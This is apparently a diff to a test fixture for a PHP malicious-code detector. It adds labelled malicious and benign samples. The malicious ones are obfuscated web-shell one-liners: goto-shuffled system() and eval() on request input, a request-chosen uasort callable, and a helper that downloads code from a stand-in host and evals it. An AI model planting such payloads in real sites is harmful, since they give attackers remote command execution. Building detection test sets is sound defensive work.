@@ -385,6 +385,28 @@ MALICIOUS = [
         "<?php $r = (new ReflectionClass('ReflectionFunction'))->newInstance($_GET['f']); $r->invoke($_GET['a']);",
         DYN,
     ),
+    (
+        "statements shuffled and joined by goto",
+        "<?php goto a; b: $f($_GET['c']); exit; a: $f = 'sys' . 'tem'; goto b;",
+        CMD,
+    ),
+    (
+        "goto to a label an if jumps to",
+        "<?php goto s; e: eval($d); exit; s: $d = $_POST['p']; if ($d) { goto e; } echo 'no';",
+        CODE,
+    ),
+    (
+        "ArrayObject sorted with a request-chosen callable",
+        "<?php $a = new ArrayObject(array('x', $_POST['a'])); $a->uasort($_GET['f']);",
+        DYN,
+    ),
+    (
+        "download helper given a URL literal and each method name in turn",
+        "<?php function get($u, $m) { if ($m == 'curl') { $c = curl_init($u); return curl_exec($c); }"
+        " return file_get_contents($u); }"
+        " foreach (array('curl', 'fgc') as $m) { $d = get('https://x.example/p.txt', $m); } eval('?>' . $d);",
+        CODE,
+    ),
 ]
 
 
@@ -579,6 +601,20 @@ BENIGN = [
     (
         "foreach building a label from constant parts",
         "<?php $t = ''; foreach (array(72, 105) as $c) { $t .= chr($c); } echo $t . htmlspecialchars($_GET['n']);",
+    ),
+    (
+        "goto retrying a read of the application's own file",
+        "<?php $n = 0; retry: $d = @file_get_contents('cache/data.json');"
+        " if ($d === false && ++$n < 3) { goto retry; } echo htmlspecialchars($_GET['q']);",
+    ),
+    (
+        "ArrayObject of request rows sorted with a fixed comparator",
+        "<?php $a = new ArrayObject($_POST['rows']); $a->uasort('strnatcmp'); echo count($a);",
+    ),
+    (
+        "update check through a download helper",
+        "<?php function get($u) { return file_get_contents($u); }"
+        " $v = json_decode(get('https://updates.example.org/v.json'), true); echo htmlspecialchars($v['version']);",
     ),
 ]
 
